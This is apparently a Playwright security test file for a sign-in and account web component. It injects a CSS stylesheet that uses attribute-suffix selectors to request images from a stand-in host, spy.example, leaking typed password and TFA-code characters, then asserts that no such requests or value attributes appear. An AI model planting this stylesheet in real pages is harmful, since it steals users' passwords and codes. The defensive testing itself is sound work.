import type { Page } from '@playwright/test';
import { expect, it } from '../support/it.ts';
import { hostPage } from '../support/host-pages.ts';
import { PASSWORD } from '../support/api.ts';
import { signedIn } from '../support/log-in.ts';

/**
 * Whoever may write a style sheet into a host's page, and no script, asks for a picture for each sign that an attribute
 * ends with. Recorders of pages keep attributes, too.
 */
const SIGNS = [...'abcdefghijklmnopqrstuvwxyz0123456789-'];
const SPY = `<style>${SIGNS.map(
  (sign) => `html:has(input[value$="${sign}"]:not([name=email],[name=username]))
    {background-image:url("https://spy.example/${sign}")}`,
).join('\n')}</style>`;

async function spiedPage(page: Page, baseURL: string, body: string) {
  const seen: string[] = [];
  await page.context().route('https://spy.example/**', (route) => {
    seen.push(new URL(route.request().url()).pathname);
    return route.fulfill({ body: '' });
  });
  const spied = await hostPage(page.context(), baseURL, `${SPY}${body}`);
  await spied.evaluate(`attributes = []; new MutationObserver((all) => all.forEach(({ target }) =>
    attributes.push(target.getAttribute('value'))))
    .observe(document, { subtree: true, attributes: true, attributeFilter: ['value'] })`);
  return { spied, seen, attributes: () => spied.evaluate<(string | null)[]>('attributes') };
}

it('tells no style sheet of a host what is typed as a password', async ({ page, baseURL }) => {
  const { spied, seen, attributes } = await spiedPage(page, baseURL ?? '', '<iam-sign-in></iam-sign-in>');
  const field = spied.getByLabel('Password', { exact: true });
  await field.pressSequentially('harbor');
  await spied.getByRole('button', { name: 'Show password' }).click();
  await field.press('End');
  await field.pressSequentially('-lantern');
  await expect(field).toHaveValue('harbor-lantern');
  await spied.getByRole('textbox', { name: 'Login or email' }).fill('nobody@northwind.example');
  await spied.getByRole('button', { name: 'Log in', exact: true }).click();
  await expect(field).toHaveValue('');
  await field.fill('q7');
  await expect(field).toHaveValue('q7');
  expect((await attributes()).filter((text) => text !== null && !'nobody@northwind.example'.startsWith(text))).toEqual(
    [],
  );
  expect(seen).toEqual([]);
});

it('tells it neither a password nor a code of a dialog', async ({ browser, baseURL }) => {
  const { context } = await signedIn(browser, 'olivia.owner@northwind.example');
  const { spied, seen } = await spiedPage(await context.newPage(), baseURL ?? '', '<iam-account></iam-account>');
  await spied.getByRole('button', { name: 'Enable TFA' }).click();
  await spied.getByRole('textbox', { name: 'Password' }).fill(PASSWORD);
  await spied.getByRole('button', { name: 'Next', exact: true }).click();
  const code = spied.getByRole('textbox', { name: 'TFA code' });
  await code.pressSequentially('12 3 ');
  await expect(code).toHaveValue('123');
  expect(seen).toEqual([]);
  await context.close();
});

it('takes nothing typed for one service along to the form of another', async ({ context, baseURL }) => {
  const body = '<iam-sign-in></iam-sign-in>';
  const page = await hostPage(context, baseURL ?? '', body);
  const field = page.getByLabel('Password', { exact: true });
  const replaceBy = (apiBase: string) =>
    page.evaluate((base) => {
      const next = document.createElement('iam-sign-in');
      if (base) next.setAttribute('api-base', base);
      document.querySelector('iam-sign-in')?.replaceWith(next);
    }, apiBase);
  await field.fill('harbor-lantern');
  await replaceBy('');
  await expect(field, 'the same service, as when a framework hydrates').toHaveValue('harbor-lantern');
  await replaceBy('http://elsewhere.localhost:9/api');
  await expect(page.locator('iam-sign-in[api-base]').getByLabel('Password', { exact: true })).toHaveValue('');
});
